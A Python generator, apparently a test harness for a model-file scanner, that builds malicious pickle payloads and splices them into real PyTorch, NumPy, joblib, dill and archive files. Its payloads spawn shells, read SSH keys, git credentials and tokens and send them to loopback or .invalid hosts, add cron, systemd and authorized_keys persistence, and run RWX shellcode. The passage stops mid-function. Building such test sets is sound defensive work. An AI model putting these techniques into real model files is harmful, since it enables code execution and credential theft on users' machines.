#!/usr/bin/python3
"""Writes a fresh, seeded held-out set: samples that are NOT in the regression corpus.

    heldout.py --out DIR --seed N [--count K]

The regression corpus (generate.py) is fixed, so a tool tuned on it can pass it by heart. This
set is generated at test time from techniques and variants the corpus does not contain
(os.popen, pty.spawn, os.execv/posix_spawn/spawnv, string runners such as timeit and cProfile,
getattr/methodcaller/reduce chains, memfd and RWX shellcode, systemd/cron/~/.local/bin drops,
kill of pid 1, nested pickles in npy/npz and torch zip members, compressed joblib and dill
function trojans…) and benign-but-flagged shapes it does not contain (nested checkpoints,
structured dtypes, sklearn pipelines, Decimal/Fraction/datetime, namedtuples, other Keras
arithmetic…). The seed randomises everything else: commands, marker names, loopback addresses
and ports, *.invalid names, pickle protocols, the container a payload travels in, the runner
that compiles a source string, file names (which never hint at the label).

DIR/samples/* are the files; DIR/manifest.jsonl (written last, atomically) has one row per
sample in the corpus's shape: file, label, technique, format, description, expect_evidence.

Safety is the corpus's (README.md): generating never loads or runs a payload (pickles are
assembled opcode by opcode or spliced into harmless files serialized by the real libraries);
network targets are 127.0.0.0/8, ::1 or *.invalid; file effects stay in /tmp or the jail's home;
every sleep/loop is bounded. Only modelvet's jail ever loads a malicious sample.
"""
import argparse
import io
import os
import random
import shutil
import sys
import textwrap
import zlib
from dataclasses import dataclass
from typing import Any, Callable

# Same seed, same bytes: set iteration order (dill globals, frozensets) follows the hash seed.
if os.environ.get("PYTHONHASHSEED") != "0":
    os.execve(sys.executable, [sys.executable, *sys.argv], {**os.environ, "PYTHONHASHSEED": "0"})

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
sys.dont_write_bytecode = True  # keep the source tree free of __pycache__

import containers  # noqa: E402
import formats  # noqa: E402
import models  # noqa: E402
from catalog import MANIFEST, Sample, bytes_writer, label_counts, write_samples  # noqa: E402
from pickle_asm import Call, Global, Seq, assemble, attr, inject, protocol_of  # noqa: E402

SAMPLES_DIR = "samples"
G = Global


# --- the dice: every random choice goes through one seeded generator ------------------------

class Dice:
    def __init__(self, seed):
        self.r = random.Random(seed)
        self.seed = seed

    def pick(self, seq):
        return self.r.choice(list(seq))

    def hexs(self, n=8):
        return "".join(self.r.choice("0123456789abcdef") for _ in range(n))

    def word(self):
        return self.pick(["update", "telemetry", "metrics", "cdn", "sync", "gpu", "cache", "hub",
                          "license", "stats", "mirror", "beacon"])

    def marker(self):
        return f"/tmp/mv_heldout_{self.hexs()}"

    def shell_cmd(self):
        """A defanged command line: its only effect is a marker under the jail's /tmp."""
        m = self.marker()
        return self.pick([f"echo modelvet-heldout > {m}", f"id > {m}", f"touch {m}",
                          f"uname -a > {m}", f"date > {m}", f"printf pwned > {m}"])

    def loopback(self):
        return self.pick(["127.0.0.1", f"127.0.0.{self.r.randint(2, 254)}",
                          f"127.{self.r.randint(0, 255)}.{self.r.randint(0, 255)}.{self.r.randint(1, 254)}"])

    def port(self):
        return self.pick([self.r.randint(1025, 65000), 4444, 8080, 1337, 9001])

    def invalid_host(self):
        return f"{self.word()}-{self.hexs(6)}.{self.word()}.invalid"

    def protocol(self, low=0):
        return self.r.randint(low, 5)

    def np_rng(self):
        import numpy as np
        return np.random.default_rng(self.r.getrandbits(32))


# --- pickle expression helpers ----------------------------------------------------------------

def as_bytes(data: bytes, protocol):
    """bytes at any protocol: a constant from 3 on, _codecs.encode(latin1) before (what
    CPython's pickler itself writes at protocol 2)."""
    if protocol >= 3:
        return data
    return Call(G("_codecs", "encode"), (data.decode("latin1"), "latin1"))


def expanduser(d, path):
    return Call(d.pick([G("posixpath", "expanduser"), G("os.path", "expanduser")]), (path,))


def import_module(d, name):
    return Call(d.pick([G("builtins", "__import__"), G("importlib", "import_module")]), (name,))


# --- string runners: ways to compile and run a source string that are not builtins.exec -----

def run_source(runner, src):
    if runner == "builtins.exec":
        return Call(G("builtins", "exec"), (src,))
    if runner == "code.InteractiveInterpreter.runsource":
        return Call(attr(Call(G("code", "InteractiveInterpreter")), "runsource"), (src, "<input>", "exec"))
    if runner == "timeit.timeit":
        return Call(G("timeit", "timeit"), (src, "pass", G("time", "perf_counter"), 1))
    if runner == "cProfile.run":
        return Call(G("cProfile", "run"), (src,))
    if runner == "profile.run":
        return Call(G("profile", "run"), (src,))
    raise ValueError(runner)


NEW_RUNNERS = ["code.InteractiveInterpreter.runsource", "timeit.timeit", "cProfile.run", "profile.run"]


# --- what a technique produces ------------------------------------------------------------------

@dataclass
class Payload:
    """A pickle payload (an expression tree per protocol) that can travel in many containers."""
    technique: str
    description: str
    evidence: str
    build: Callable[[int], Any]
    min_protocol: int = 0
    uses_memo: bool = False   # spliced payloads cannot use the memo: plain pickle only
    label: str = "malicious"


@dataclass
class Made:
    """A finished file: the bytes (or a writer), its format, extension and manifest fields."""
    label: str
    technique: str
    format: str
    ext: str
    description: str
    evidence: str
    write: Callable[[str], None]


# --- carriers: harmless files the real libraries write, for payloads to be spliced into ---------

def random_state_dict(d):
    """A float32 state dict with seeded shapes and nested OrderedDicts of submodules."""
    from collections import OrderedDict
    t = models.torch()
    g = t.Generator().manual_seed(d.r.getrandbits(31))
    width = d.r.randint(2, 12)
    sd = OrderedDict()
    for i in range(d.r.randint(1, 4)):
        out = d.r.randint(2, 12)
        sd[f"layers.{i}.weight"] = t.randn(out, width, generator=g)
        sd[f"layers.{i}.bias"] = t.zeros(out)
        width = out
    return sd


def torch_bytes(obj, **kwargs):
    buf = io.BytesIO()
    models.torch().save(obj, buf, **kwargs)
    return buf.getvalue()


def torch_zip_with(d, payload_expr_for):
    members = containers.torch_zip_members(torch_bytes(random_state_dict(d)))
    name = containers.data_pkl_name(members)
    original = dict(members)[name]
    return containers.write_zip(containers.replace_member(
        members, name, inject(original, payload_expr_for(protocol_of(original)))))


def torch_legacy_with(d, payload_expr_for):
    raw = containers.renumber_legacy_keys(torch_bytes(random_state_dict(d), _use_new_zipfile_serialization=False))
    start, end = containers.split_pickles(raw, 4)[3]
    obj = raw[start:end]
    return raw[:start] + inject(obj, payload_expr_for(protocol_of(obj))) + raw[end:]


def random_arrays(d):
    r = d.np_rng()
    return {f"{d.pick(['dense', 'proj', 'embed', 'head'])}_{i}/kernel": r.standard_normal(
        (d.r.randint(2, 8), d.r.randint(2, 8))).astype("float32") for i in range(d.r.randint(1, 3))}


def joblib_with(d, payload_expr_for, compress=None):
    compress = d.pick([0, 3, 5]) if compress is None else compress
    raw = models.joblib_bytes(random_arrays(d))
    spliced = inject(raw, payload_expr_for(protocol_of(raw)))
    # joblib.dump(compress=N) is one zlib stream of what it writes uncompressed.
    return zlib.compress(spliced, compress) if compress else spliced


def npy_with(d, payload_expr_for, nested=False):
    """np.save of an object array, the payload spliced into its pickle (after the header)."""
    import numpy as np
    arr = np.empty(2, dtype=object)
    inner = np.empty(2, dtype=object)
    inner[:] = [{"id": d.r.randint(0, 99)}, "unk"]
    arr[:] = [inner if nested else {"label": d.word()}, [d.word(), d.r.randint(0, 9)]]
    raw = models.npy_bytes(arr)
    f = io.BytesIO(raw)
    version = np.lib.format.read_magic(f)
    np.lib.format._read_array_header(f, version)
    head, pkl = raw[:f.tell()], raw[f.tell():]
    return head + inject(pkl, payload_expr_for(protocol_of(pkl)))


def npz_with(d, payload_expr_for, nested=False):
    import zipfile
    arrays = random_arrays(d)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        for name, arr in arrays.items():
            member = io.BytesIO()
            np_save(member, arr)
            z.writestr(zipfile.ZipInfo(name + ".npy", containers.ZIP_EPOCH), member.getvalue())
        z.writestr(zipfile.ZipInfo("labels.npy", containers.ZIP_EPOCH), npy_with(d, payload_expr_for, nested))
    return out.getvalue()


def np_save(f, arr):
    import numpy as np
    np.lib.format.write_array(f, np.asanyarray(arr), allow_pickle=True)


def plain_trojan(d, payload_expr_for, protocol):
    """pickle.dumps of an ordinary config/weights dict, payload spliced in front."""
    carrier = {"epoch": d.r.randint(1, 90), "lr": round(d.r.uniform(1e-5, 1e-2), 6),
               "weights": [[round(d.r.uniform(-1, 1), 4) for _ in range(3)] for _ in range(2)]}
    import pickle
    raw = pickle.dumps(carrier, protocol=protocol)
    return inject(raw, payload_expr_for(protocol))


def paddle_with(d, payload_expr_for):
    import pickle
    state = dict(random_arrays(d))
    state["StructuredToParameterName@@"] = {f"fc.{k}": k for k in state}
    raw = pickle.dumps(state, protocol=4)
    return inject(raw, payload_expr_for(4))


def dill_with(d, payload_expr_for):
    raw = models.dill_bytes(models.main_function(f"lambda x: x * {d.r.randint(2, 9)} + 1"))
    return inject(raw, payload_expr_for(protocol_of(raw)))


# Containers a memo-free payload may travel in: (name, format, extension, carrier protocol).
CONTAINERS = [
    ("pickle", "pickle", None, None),
    ("pickle-trojan", "pickle", None, None),
    ("pytorch-zip", "pytorch-zip", ".pt", 2),
    ("pytorch-legacy", "pytorch-legacy", ".pth", 2),
    ("joblib", "joblib", ".joblib", 4),
    ("numpy-npy", "numpy-npy", ".npy", 3),
    ("numpy-npz", "numpy-npz", ".npz", 3),
    ("7z-pytorch", "7z-pytorch", ".7z", 2),
    ("paddle", "paddle", ".pdparams", 4),
    ("dill", "dill", ".pkl", 4),
    ("tar-pytorch", "tar", ".tar.gz", 2),   # issue #12: archives around models (formats.py)
    ("nemo", "nemo", ".nemo", 2),
    ("nested-zip", "zip", ".zip", None),
]


def pack(d, p: Payload):
    """Puts a payload in a random container it fits in. Returns a Made."""
    choices = [c for c in CONTAINERS if c[3] is None or c[3] >= p.min_protocol]
    if p.uses_memo:
        choices = [c for c in choices if c[0] == "pickle"]
    # Plain pickles are the most common carrier in the wild: give them more weight.
    name = d.pick(choices + [CONTAINERS[0]] * 3)[0]
    return pack_in(d, p, name)


def pack_in(d, p: Payload, name):
    """Puts a payload in the named container (CONTAINERS). Returns a Made."""
    _, fmt, ext, _ = next(c for c in CONTAINERS if c[0] == name)
    build = p.build
    if name == "pickle":
        proto = d.protocol(p.min_protocol)
        data, ext = assemble(build(proto), proto), d.pick([".pkl", ".bin", ".pickle", ".ckpt", ".dat"])
        where = f"protocol {proto} pickle"
    elif name == "pickle-trojan":
        proto = d.protocol(max(p.min_protocol, 0))
        data, ext = plain_trojan(d, build, proto), d.pick([".pkl", ".bin"])
        where = f"protocol {proto} pickle of a config dict, payload spliced in front"
    elif name == "pytorch-zip":
        data, where = torch_zip_with(d, build), "torch.save zip checkpoint (data.pkl)"
    elif name == "pytorch-legacy":
        data, where = torch_legacy_with(d, build), "legacy (pre-1.6) torch checkpoint"
    elif name == "joblib":
        level = d.pick([0, 3])
        data, where = joblib_with(d, build, level), f"joblib.dump of arrays (compress={level})"
    elif name == "numpy-npy":
        data, where = npy_with(d, build), ".npy object array"
    elif name == "numpy-npz":
        data, where = npz_with(d, build), ".npz with an object-array member"
    elif name == "7z-pytorch":
        inner = torch_zip_with(d, build)
        data, where = (lambda path: containers.write_7z(path, [("pytorch_model.bin", inner)])), "torch zip inside 7z"
    elif name == "paddle":
        data, where = paddle_with(d, build), "paddle.save-style state dict"
    elif name == "dill":
        data, where = dill_with(d, build), "dill.dumps of a lambda"
    elif name == "tar-pytorch":  # GNU tar's "./" prefix or a directory; gzip, bzip2 or none
        member = d.pick(["./", f"{d.word()}/"]) + d.pick(["pytorch_model.bin", "model.pt", "checkpoint.ckpt"])
        compress = d.pick(["gz", "bz2", ""])
        ext = {"gz": ".tar.gz", "bz2": ".tar.bz2", "": ".tar"}[compress]
        data = formats.tar_bytes([(f"{d.word()}.json", b"{}\n"), (member, torch_zip_with(d, build))], compress)
        where = f"torch zip checkpoint {member} in a {ext}"
    elif name == "nemo":
        data = formats.tar_bytes([("./model_config.yaml", formats.NEMO_CONFIG), ("./model_weights.ckpt", torch_zip_with(d, build))])
        where = "NeMo archive's model_weights.ckpt"
    elif name == "nested-zip":
        proto = d.protocol(p.min_protocol)
        inner = containers.write_zip([(f"{d.word()}.pkl", assemble(build(proto), proto))])
        data = containers.write_zip([("README.md", b"# model\n"), (f"{d.word()}/{d.word()}.zip", inner)])
        where = f"protocol {proto} pickle in a zip in a zip"
    else:
        raise ValueError(name)
    write = data if callable(data) else bytes_writer(data)
    return Made(p.label, p.technique, fmt, ext, f"{p.description} [in a {where}]", p.evidence, write)


# --- malicious payloads ---------------------------------------------------------------------------

SH = "exec /bin/sh"


def m_os_popen(d):
    cmd = d.shell_cmd()
    return Payload("os-popen", f"os.popen({cmd!r}).read()", SH,
                   lambda p: Call(attr(Call(G("os", "popen"), (cmd,)), "read")))


def m_pty_spawn(d):
    cmd = d.shell_cmd()
    return Payload("pty-spawn", "pty.spawn(['/bin/sh', '-c', cmd]) (forkpty + exec)", "call pty.spawn; " + SH,
                   lambda p: Call(G("pty", "spawn"), (["/bin/sh", "-c", cmd],)))


def m_os_execv(d):
    cmd = d.shell_cmd()
    fn = d.pick(["execv", "execl"])
    if fn == "execv":
        build = lambda p: Call(G("os", "execv"), ("/bin/sh", ["sh", "-c", cmd]))  # noqa: E731
    else:
        build = lambda p: Call(G("os", "execl"), ("/bin/sh", "sh", "-c", cmd))  # noqa: E731
    return Payload("os-exec-replace", f"os.{fn} replaces the loading process with /bin/sh -c {cmd!r}", SH, build)


def m_posix_spawn(d):
    cmd = d.shell_cmd()
    fn, prog = d.pick([("posix_spawn", "/bin/sh"), ("posix_spawnp", "sh")])
    return Payload("os-posix-spawn", f"os.{fn}({prog!r}, [sh, -c, cmd], {{}})", SH,
                   lambda p: Call(G(d.pick(["os", "posix"]), fn), (prog, ["sh", "-c", cmd], {})))


def m_spawnv(d):
    cmd = d.shell_cmd()
    return Payload("os-spawnv", "os.spawnv(P_WAIT, '/bin/sh', [sh, -c, cmd]) (fork + exec in Python)", SH,
                   lambda p: Call(G("os", "spawnv"), (0, "/bin/sh", ["sh", "-c", cmd])))


def m_subprocess_variants(d):
    cmd = d.shell_cmd()
    fn = d.pick(["run", "getoutput", "getstatusoutput", "check_call"])
    args = (cmd,) if fn in ("getoutput", "getstatusoutput") else (["/bin/sh", "-c", cmd],)
    return Payload(f"subprocess-{fn.replace('_', '-')}", f"subprocess.{fn}{args!r}", SH,
                   lambda p: Call(G("subprocess", fn), args))


def m_ssh_key_copy_connect(d):
    dst, host, port = f"/tmp/.{d.hexs(6)}", d.loopback(), d.port()
    return Payload("ssh-key-copy-then-connect",
                   f"shutil.copy(~/.ssh/id_ed25519, {dst}) then socket.create_connection(({host!r}, {port}))",
                   f"read ~/.ssh/id_ed25519; connect {host}:{port}",
                   lambda p: Seq(Call(G("shutil", d.pick(["copy", "copyfile"])), (expanduser(d, "~/.ssh/id_ed25519"), dst)),
                                 Call(G("socket", "create_connection"), ((host, port), 3))))


def m_urlopen_invalid(d):
    host = f"exfil.{d.hexs(6)}.invalid"
    url = f"http://{host}/{d.pick(['v1/upload', 'collect', 'ping', 'api/telemetry'])}?id={d.hexs(8)}"
    return Payload("urllib-urlopen-invalid", f"urllib.request.urlopen({url!r})", f"dns {host}",
                   lambda p: Call(G("urllib.request", "urlopen"), (url, None, 3)))


def m_http_client(d):
    host, port = d.loopback(), d.port()
    path = f"/{d.word()}/{d.hexs(6)}"
    return Payload("http-client-loopback", f"http.client.HTTPConnection({host!r}, {port}).request('GET', {path!r})",
                   f"connect {host}:{port}",
                   lambda p: Call(attr(Call(G("http.client", "HTTPConnection"), (host, port, 3)), "request"), ("GET", path)))


def m_ipv6_connect(d):
    port = d.port()
    return Payload("socket-connect-ipv6-loopback", f"socket.create_connection(('::1', {port}))", f"connect [::1]:{port}",
                   lambda p: Call(G("socket", "create_connection"), (("::1", port), 3)))


def m_smtp(d):
    host, port = d.loopback(), d.pick([25, 587, d.port()])
    return Payload("smtplib-loopback", f"smtplib.SMTP({host!r}, {port}) connects in its constructor",
                   f"connect {host}:{port}",
                   lambda p: Call(G("smtplib", "SMTP"), (host, port, "localhost", 3)))


def m_udp_sendto(d):
    host, port = d.loopback(), d.port()
    beacon = f"hb {d.hexs(12)}\n".encode()
    return Payload("udp-sendto-loopback", f"socket.socket(AF_INET, SOCK_DGRAM).sendto(beacon, ({host!r}, {port}))",
                   f"udp {host}:{port}",
                   lambda p: Call(attr(Call(G("socket", "socket"), (2, 2)), "sendto"), (as_bytes(beacon, p), (host, port))))


def m_ctypes_variants(d):
    cmd = d.shell_cmd()
    how = d.pick(["CDLL(None)", "cdll.LoadLibrary"])

    def build(p):
        lib = (Call(G("ctypes", "CDLL"), (None,)) if how == "CDLL(None)"
               else Call(attr(G("ctypes", "cdll"), "LoadLibrary"), ("libc.so.6",)))
        return Call(attr(lib, "system"), (as_bytes(cmd.encode(), p),))
    return Payload("ctypes-" + ("dlopen-self" if how == "CDLL(None)" else "loadlibrary") + "-system",
                   f"ctypes.{how}.system(cmd): native libc call", SH, build)


MEMFD_EXEC = textwrap.dedent("""\
    import os, subprocess
    try:
        fd = os.memfd_create("{name}", 0)
        with open("/bin/true", "rb") as f:
            os.write(fd, f.read())
        subprocess.run(["/proc/self/fd/%d" % fd], pass_fds=(fd,), timeout=5)
    except Exception:
        pass
""")

MMAP_SHELLCODE = textwrap.dedent("""\
    import ctypes, mmap, platform
    if platform.machine() == "x86_64":
        buf = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        buf.write(b"\\xc3")  # x86-64 `ret`: the smallest shellcode there is
        ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(buf)))()
""")


def m_memfd_exec(d):
    runner = d.pick(["builtins.exec"] + NEW_RUNNERS)
    src = MEMFD_EXEC.replace("{name}", d.pick(["jit", "kernel_cache", "cudnn", ""]) + d.hexs(4))
    return Payload("memfd-exec", f"{runner} of a memfd_create + write /bin/true + exec /proc/self/fd/N source",
                   "memfd_create; exec /proc/self/fd/*", lambda p: run_source(runner, src))


def m_mmap_shellcode(d):
    runner = d.pick(["builtins.exec"] + NEW_RUNNERS)
    return Payload("mmap-rwx-shellcode", f"{runner} of source mapping RWX memory and calling a 1-byte shellcode",
                   "mmap exec (anonymous)", lambda p: run_source(runner, MMAP_SHELLCODE))


def spawn_source(d):
    cmd = d.shell_cmd()
    return d.pick([f"__import__('os').system({cmd!r})",
                   f"import subprocess; subprocess.run(['/bin/sh', '-c', {cmd!r}])",
                   f"import os; os.popen({cmd!r}).read()"])


def m_string_runner(d):
    runner = d.pick(NEW_RUNNERS)
    src = spawn_source(d)
    tech = {"code.InteractiveInterpreter.runsource": "code-runsource", "timeit.timeit": "timeit-stmt",
            "cProfile.run": "cprofile-run", "profile.run": "profile-run"}[runner]
    return Payload(f"{tech}-spawn", f"{runner}({src!r})", f"call {runner}; {SH}", lambda p: run_source(runner, src))


def m_methodcaller(d):
    cmd, mod = d.shell_cmd(), d.pick(["os", "posix"])
    return Payload("operator-methodcaller-system", f"operator.methodcaller('system', cmd)({mod} module)",
                   "call operator.methodcaller; " + SH,
                   lambda p: Call(Call(G(d.pick(["operator", "_operator"]), "methodcaller"), ("system", cmd)),
                                  (import_module(d, mod),)))


def m_reduce_getattr(d):
    cmd = d.shell_cmd()
    start, chain = d.pick([("os", ["system"]), ("posixpath", ["os", "system"]), ("shutil", ["os", "system"]),
                           ("subprocess", ["os", "system"]), ("tempfile", ["_os", "system"])])
    return Payload("functools-reduce-getattr", f"functools.reduce(getattr, {chain}, {start})(cmd)",
                   "call functools.reduce; " + SH,
                   lambda p: Call(Call(G(d.pick(["functools", "_functools"]), "reduce"),
                                       (G("builtins", "getattr"), chain, import_module(d, start))), (cmd,)))


def m_sys_modules(d):
    cmd = d.shell_cmd()
    return Payload("sys-modules-getitem", "getattr(operator.getitem(sys.modules, 'os'), 'system')(cmd)", SH,
                   lambda p: Call(attr(Call(G("_operator", "getitem"), (G("sys", "modules"), "os")), "system"), (cmd,)))


def m_builtins_import_chain(d):
    cmd = d.shell_cmd()
    mod, fn = d.pick([("os", "system"), ("subprocess", "getoutput"), ("os", "popen")])
    return Payload("builtins-import-getattr", f"getattr(builtins.__import__({mod!r}), {fn!r})(cmd)", SH,
                   lambda p: Call(attr(Call(G("builtins", "__import__"), (mod,)), fn), (cmd,)))


def m_systemd_unit(d):
    name = f"{d.pick(['nvidia', 'hf', 'cuda', 'model'])}-{d.word()}.service"
    path = f"~/.config/systemd/user/{name}"
    unit = f"[Service]\nExecStart=/bin/sh -c '{d.shell_cmd()}'\n[Install]\nWantedBy=default.target\n"
    return Payload("systemd-user-unit", f"drops a systemd user unit {path}", f"write {path}",
                   lambda p: Seq(Call(G("os", "makedirs"), (expanduser(d, "~/.config/systemd/user"), 0o755, True)),
                                 Call(attr(Call(G("builtins", "open"), (expanduser(d, path), "w")), "write"), (unit,))))


def m_cron_spool(d):
    path = d.pick(["/var/spool/cron/crontabs/root", "/etc/cron.d/gpu-telemetry", "/var/spool/cron/root"])
    line = f"* * * * * {d.shell_cmd()}\n"
    return Payload("cron-spool-write", f"appends a crontab line to {path} (read-only: the attempt is the evidence)",
                   f"write {path}",
                   lambda p: Call(attr(Call(G("builtins", "open"), (path, "a")), "write"), (line,)))


def m_local_bin_chmod(d):
    name = d.pick(["nvidia-smi", "python3", "pip", "git", "huggingface-cli"])
    path = f"~/.local/bin/{name}"
    script = f"#!/bin/sh\n{d.shell_cmd()}\nexec /usr/bin/{name} \"$@\"\n"
    return Payload("local-bin-drop-chmod", f"drops {path} (shadows a PATH command) and chmods it +x",
                   f"write {path}",
                   lambda p: Seq(Call(G("os", "makedirs"), (expanduser(d, "~/.local/bin"), 0o755, True)),
                                 Call(attr(Call(G("builtins", "open"), (expanduser(d, path), "w")), "write"), (script,)),
                                 Call(G("os", "chmod"), (expanduser(d, path), 0o755))))


def m_kill_pid1(d):
    sig = d.pick([15, 1, 9])
    return Payload("os-kill-pid1", f"os.kill(1, {sig})", f"kill 1 sig {sig}",
                   lambda p: Call(G(d.pick(["os", "posix"]), "kill"), (1, sig)))


def m_dns_long_label(d):
    label = d.hexs(d.r.randint(40, 62))
    zone = f"{d.word()}.{d.hexs(4)}.invalid"
    return Payload("dns-long-label", f"socket.getaddrinfo of a {len(label)}-char label under {zone}",
                   f"dns *.{zone}", lambda p: Call(G("socket", "getaddrinfo"), (f"{label}.{zone}", 53)))


def m_env_token_dns(d):
    var = d.pick(["HF_TOKEN", "AWS_SECRET_ACCESS_KEY"])
    zone = f"t.{d.hexs(5)}.invalid"

    def build(p):
        secret_hex = Call(attr(Call(attr(Call(G("os", "getenv"), (var, "none")), "encode")), "hex"))
        piece = Call(G("_operator", "getitem"), (secret_hex, Call(G("builtins", "slice"), (0, 48))))
        name = Call(attr(".", "join"), ([piece, zone],))
        return Call(G("socket", "getaddrinfo"), (name, 53))
    return Payload("env-token-dns-exfil", f"pure pickle: os.getenv({var!r}) hex-encoded into a DNS name under {zone}",
                   f"dns *.{zone}", build)


def m_pathlib_git_credentials(d):
    host, port = d.loopback(), d.port()

    def build(p):
        text = Call(attr(Call(attr(Call(attr(G("pathlib", "Path"), "home")), "joinpath"), (".git-credentials",)),
                         "read_text"))
        return Call(attr(Call(G("socket", "create_connection"), ((host, port), 3)), "sendall"),
                    (Call(attr(text, "encode")),))
    return Payload("pathlib-git-credentials-exfil", f"Path.home()/.git-credentials read_text() sent to {host}:{port}",
                   f"read ~/.git-credentials; connect {host}:{port}", build)


def m_atexit_spawn(d):
    cmd = d.shell_cmd()
    return Payload("atexit-deferred-spawn", "atexit.register(os.system, cmd): nothing at load, a shell at interpreter exit",
                   SH, lambda p: Call(G("atexit", "register"), (G(d.pick(["os", "posix"]), "system"), cmd)))


def m_timer_spawn(d):
    cmd, delay = d.shell_cmd(), float(d.r.randint(1, 20))
    return Payload("threading-timer-deferred-spawn", f"threading.Timer({delay}, os.system, [cmd]).start(): fires after the load",
                   SH, lambda p: Call(attr(Call(G("threading", "Timer"), (delay, G("os", "system"), [cmd])), "start")))


def m_authorized_keys(d):
    key = f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{d.hexs(32)} ops@{d.invalid_host()}\n"
    return Payload("ssh-authorized-keys-append", "appends an attacker key to ~/.ssh/authorized_keys",
                   "write ~/.ssh/authorized_keys",
                   lambda p: Call(attr(Call(G("builtins", "open"), (expanduser(d, "~/.ssh/authorized_keys"), "a")), "write"),
                                  (key,)))


def m_pip_conf(d):
    conf = f"[global]\nindex-url = http://pypi.{d.hexs(6)}.invalid/simple\ntrusted-host = pypi.{d.hexs(6)}.invalid\n"
    return Payload("pip-conf-index-hijack", "writes ~/.config/pip/pip.conf pointing pip at an attacker index",
                   "write ~/.config/pip/pip.conf",
                   lambda p: Seq(Call(G("os", "makedirs"), (expanduser(d, "~/.config/pip"), 0o755, True)),
                                 Call(attr(Call(G("builtins", "open"), (expanduser(d, "~/.config/pip/pip.conf"), "w")),
                                           "write"), (conf,))))


def m_proc_environ(d):
    path = d.pick(["/proc/self/environ", "/proc/1/environ"])
    return Payload("proc-environ-read", f"open({path!r}, 'rb').read(): every secret in the environment",
                   f"read {path}", lambda p: Call(attr(Call(G("builtins", "open"), (path, "rb")), "read")))


def m_environ_decoy(d):
    var = d.pick(["AWS_SECRET_ACCESS_KEY", "HF_TOKEN"])
    return Payload("environ-decoy-read", f"operator.getitem(os.environ, {var!r}) kept in the loaded dict (no network)",
                   f"call os.environ; env {var}",
                   lambda p: {"token": Call(G("_operator", "getitem"), (G("os", "environ"), var)), "v": 1})


def m_container_socket(d):
    path = d.pick(["/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock"])
    return Payload("container-runtime-socket", f"AF_UNIX connect to {path}: a container-escape attempt",
                   f"connect unix {path}",
                   lambda p: Call(attr(Call(G("socket", "socket"), (1, 1)), "connect"), (path,)))


def m_hf_cache_wipe(d):
    return Payload("hf-cache-wipe", "shutil.rmtree(~/.cache/huggingface/hub): destroys other models",
                   "delete ~/.cache/huggingface/hub",
                   lambda p: Call(G("shutil", "rmtree"), (expanduser(d, "~/.cache/huggingface/hub"), True)))


PAYLOAD_TECHNIQUES = [
    m_os_popen, m_pty_spawn, m_os_execv, m_posix_spawn, m_spawnv, m_subprocess_variants,
    m_ssh_key_copy_connect, m_urlopen_invalid, m_http_client, m_ipv6_connect, m_smtp, m_udp_sendto,
    m_ctypes_variants, m_memfd_exec, m_mmap_shellcode, m_string_runner, m_methodcaller,
    m_reduce_getattr, m_sys_modules, m_builtins_import_chain, m_systemd_unit, m_cron_spool,
    m_local_bin_chmod, m_kill_pid1, m_dns_long_label, m_env_token_dns, m_pathlib_git_credentials,
    m_atexit_spawn, m_timer_spawn, m_authorized_keys, m_pip_conf, m_proc_environ, m_environ_decoy,
    m_container_socket, m_hf_cache_wipe,
]


# --- malicious samples with a fixed shape (not a free-travelling payload) -------------------------

NESTED_MEMBER_LOADER = textwrap.dedent("""\
    import os, pickle, zipfile
    for fd in os.listdir("/proc/self/fd"):
        try:
            path = os.readlink("/proc/self/fd/" + fd)
            if zipfile.is_zipfile(path):
                with zipfile.ZipFile(path) as z:
                    if "{member}" in z.namelist():
                        pickle.loads(z.read("{member}"))
                        break
        except Exception:
            pass
""")


def m_torch_extra_member(d):
    """A real checkpoint with an extra member holding a malicious pickle; data.pkl finds the
    checkpoint among its own open files and unpickles that member."""
    ext = d.pick([".pt", ".bin", ".pth"])
    members = containers.torch_zip_members(torch_bytes(random_state_dict(d)))
    prefix = members[0][0].split("/")[0]
    member = f"{prefix}/extra/{d.pick(['tokenizer', 'generation_config', 'ema'])}.pkl"
    cmd = d.shell_cmd()
    inner = assemble(Call(G(d.pick(["os", "posix"]), "system"), (cmd,)), d.protocol())
    runner = d.pick(["builtins.exec"] + NEW_RUNNERS)
    src = NESTED_MEMBER_LOADER.replace("{member}", member)
    name = containers.data_pkl_name(members)
    data_pkl = inject(dict(members)[name], run_source(runner, src))
    out = containers.write_zip(containers.replace_member(members, name, data_pkl) + [(member, inner)])
    return Made("malicious", "torch-zip-extra-member-pickle", "pytorch-zip", ext,
                f"torch zip whose data.pkl ({runner}) unpickles an extra member {member} holding posix.system",
                "call pickle.loads; " + SH, bytes_writer(out))


def m_numpy_nested_object(d):
    cmd = d.shell_cmd()
    npz = d.pick([False, True])
    fn = d.pick([("os", "system"), ("subprocess", "getoutput")])
    build = lambda p: Call(G(*fn), (cmd,))  # noqa: E731
    data = npz_with(d, build, nested=True) if npz else npy_with(d, build, nested=True)
    return Made("malicious", "numpy-nested-object-array-trojan", "numpy-npz" if npz else "numpy-npy",
                ".npz" if npz else ".npy",
                f"numpy.load(allow_pickle=True) of a nested object array whose pickle runs {fn[0]}.{fn[1]}",
                SH, bytes_writer(data))


def m_joblib_compressed(d):
    cmd = d.shell_cmd()
    level = d.pick([3, 3, 6, 9])
    data = joblib_with(d, lambda p: Call(G("subprocess", d.pick(["run", "Popen"])), (["/bin/sh", "-c", cmd],)), level)
    return Made("malicious", "joblib-compressed-trojan", "joblib", ".joblib",
                f"joblib.dump(compress={level}) zlib stream with a subprocess call spliced into the pickle",
                SH, bytes_writer(data))


class _Reduce:
    """An object that pickles as func(*args). Only its reduction is taken: func is never called."""

    def __init__(self, func, args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


DILL_HOOK = textwrap.dedent("""\
    def {name}(cmd):
        import subprocess
        return subprocess.run(["/bin/sh", "-c", cmd], timeout=5).returncode
""")


def m_dill_function(d):
    """dill serialises a __main__ function by value (_create_function/_create_code); the pickle
    then calls it (REDUCE) with the command. dill.dumps only serialises: nothing runs here."""
    name = d.pick(["warmup", "init_cache", "setup_tokenizer", "_register"])
    fn = models.main_function(DILL_HOOK.replace("{name}", name))[name]
    data = models.dill_bytes({"preprocess": models.main_function(f"lambda x: x / {d.r.randint(2, 255)}.0"),
